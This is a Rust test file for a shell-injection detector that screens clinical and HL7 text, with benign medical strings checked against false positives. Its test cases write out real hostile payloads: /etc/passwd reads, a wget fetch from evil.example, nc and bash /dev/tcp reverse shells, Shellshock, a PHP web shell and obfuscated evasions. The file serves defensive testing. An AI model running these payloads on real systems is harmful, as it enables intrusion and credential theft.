#![allow(clippy::unwrap_used)]

use super::*;

#[track_caller]
fn attack(s: &str, expected: &str) {
    let d = shell(s).unwrap_or_else(|| panic!("missed: {s:?}"));
    assert_eq!(d.fingerprint, expected, "wrong check for {s:?}");
    assert_eq!(d.kind, DetectorKind::Shell);
    assert!(
        s.get(d.span.clone()).is_some(),
        "span {:?} not on char boundary",
        d.span
    );
}

#[track_caller]
fn benign(s: &str) {
    assert_eq!(
        shell(s).map(|d| d.fingerprint),
        None,
        "false positive on {s:?}"
    );
}

#[test]
fn separators_and_commands() {
    attack("127.0.0.1; cat /etc/passwd", "shell:command");
    attack("x|id", "shell:command");
    attack("x;id", "shell:command");
    attack("a && whoami", "shell:command");
    attack("1 || uname -a", "shell:command");
    attack(
        "foo\nwget http://evil.example/x.sh -O /tmp/x",
        "shell:command",
    );
    attack("x & ping -n 10 127.0.0.1 &", "shell:command");
    attack("| nc -e /bin/sh 10.0.0.1 4444", "shell:command");
    attack("; sleep 5", "shell:command");
    attack("x & powershell -enc SQBFAFgA", "shell:command");
    attack("a | CMD.EXE /c dir", "shell:command");
}

#[test]
fn substitutions() {
    attack("`id`", "shell:substitution");
    attack("$(whoami)", "shell:substitution");
    attack("name=$(cat /etc/passwd)", "shell:substitution");
    attack("x`ls -la`", "shell:substitution");
}

#[test]
fn evasions() {
    attack(";c'a't /e\"t\"c/pa\\ss\\wd", "shell:command");
    attack(";cat${IFS}/etc/passwd", "shell:command");
    attack(";{cat,/etc/passwd}", "shell:command");
    attack(";/???/??t /???/p??s??", "shell:command");
    attack(
        "$aaaaaa/bin$bbbbbb/cat$ccccccc $dddddd/etc$eeeeeee/passwd$fffffff",
        "shell:direct-command",
    );
    attack("&w^h^o^a^m^i", "shell:command");
    attack("cat /etc/passwd", "shell:direct-command");
    attack(
        "/bin/bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
        "shell:direct-command",
    );
    attack("() { :;}; /bin/bash -c 'id'", "shell:shellshock");
}

#[test]
fn probes_and_other_syntax() {
    attack(
        ";echo ZZKJNZ$((11+6))$(echo ZZKJNZ)ZZKJNZ",
        "shell:arithmetic",
    );
    attack("${system(print(`echo CKLWBH`))}", "shell:exec-function");
    attack(";phpinfo()", "shell:exec-function");
    attack("eval('sleep 5')", "shell:exec-function");
    attack("<!--#exec cmd=\"/bin/cat /etc/passwd\"-->", "shell:ssi");
    attack(
        "for /f \"tokens=*\" %G in ('dir /b') do echo %G",
        "shell:cmd-batch",
    );
    attack("& FOR %a IN (a,b,c) DO cmd", "shell:cmd-batch");
    attack("IF EXIST C:\\pagefile.sys CMD", "shell:cmd-batch");
    attack("if /i \"a\"==\"b\" foo", "shell:cmd-batch");
    attack("IF %ERRORLEVEL% NEQ 0 echo test", "shell:cmd-batch");
    attack("print(`echo AGODDO`)", "shell:substitution");
    attack("ipconfig", "shell:direct-command");
    attack("ipconfig /all", "shell:direct-command");
    attack("&& dir C:\\Users", "shell:command");
    attack(
        "| echo \"<?php system($_GET['c']) ?>\" > dir.php",
        "shell:exec-function",
    );
    attack("time sh -c whoami", "shell:direct-command");
    attack("nohup ifconfig", "shell:direct-command");
    attack("c{a,oun}t", "shell:direct-command");
    attack("{id,}", "shell:direct-command");
    attack("$SHELL -c \"echo hi\"", "shell:direct-command");
    attack("/bin/unxz -c /var/log/x.xz", "shell:direct-command");
    attack(" ;cd /;cd etc;column passwd", "shell:command");
    attack(
        "x; regedit /E c:\\ads\\file.txt HKEY_CURRENT_USER\\Key",
        "shell:command",
    );
}

#[test]
fn clinical_text_and_hl7_pass() {
    for s in [
        "drop in blood pressure; watch for dizziness",
        "PID|1||12345^^^MRN||Doe^John",
        "OBX|1|TX|^cat scan||head CT normal|",
        "MSH|^~\\&|EPIC|HOSP|LAB|HOSP|20230101||ADT^A01|123|P|2.5",
        "Allergy: cats; cat dander",
        "Exam: chest clear; head /neck normal",
        "result -ve; more -ve tests pending",
        "Take 1 tablet; sleep 8 hours",
        "(USCDI) Time period when name was/is in use",
        "patient/*.rs",
        "Eggs (edible) (substance)",
        "Type 2 diabetes; Type 1 excluded",
        "see note; find attached",
        "date of birth | date of death",
        "5 mg/kg/day",
        "90% to 100% saturation",
        "Python & R analysis",
        "Insulin 10 units sc; repeat at bedtime",
        "Follow up: watch & wait",
        "http://hl7.org/fhir/us/core/StructureDefinition/us-core-patient",
        "Dr. Smith & Dr. Jones; time: 10:30",
        "If defined by the user, use the value",
        "If pain persists, for 3 days in (total) do not drive",
        "Nervous system (finding)",
        "coding system(s) used",
        "{a,b}",
        "Cat",
        "time",
        "Patient was seen; time 10 minutes",
        "Watch",
        "1 or 2 days; more if needed",
        "`make` is the officially maintained build system",
        "* `zdiff' now reports exit status like `diff' does.",
        "use `echo hello` to print",
        "Indonesian (id)",
        "* Makefile.am (rpm): The tarball is now bzip2-compressed.",
        "This verifies that the expected algorithm (cipher) is negotiated.",
        "def add_directory(dir):",
        "if (plist.key_ids_size == 0) {",
        "if frame.type() == gdb.DUMMY_FRAME: break",
        "/cgi-bin/test.cgi",
        "/tienda1/publico/anadir.jsp",
        "data is base64; base64 encoded attachment follows",
    ] {
        benign(s);
    }
}

#[test]
fn glob_matching() {
    assert!(glob_match(b"??t", b"cat"));
    assert!(glob_match(b"c*t", b"cat"));
    assert!(glob_match(b"[c]at", b"cat"));
    assert!(!glob_match(b"??t", b"nc"));
    assert!(glob_match(b"w*i", b"whoami"));
}

#[test]
fn repeated_command_positions_still_find_the_attack_after_them() {
    // Many command positions that share one argument end (`ArgsEnds` remembers it).
    let decoys = "t(java ".repeat(2000);
    attack(&format!("{decoys}; cat /etc/passwd"), "shell:command");
}

#[test]
fn batch_syntax_after_many_bare_if_positions_is_still_found() {
    // Each `(` is a position whose `if` has no argument (no blank in reach); the next blank
    // is remembered across them (`NextIn`), and the real batch line after them is still read.
    let decoys = "if(".repeat(2000);
    attack(
        &format!("{decoys}& IF EXIST C:\\pagefile.sys CMD"),
        "shell:cmd-batch",
    );
    benign(&decoys);
}
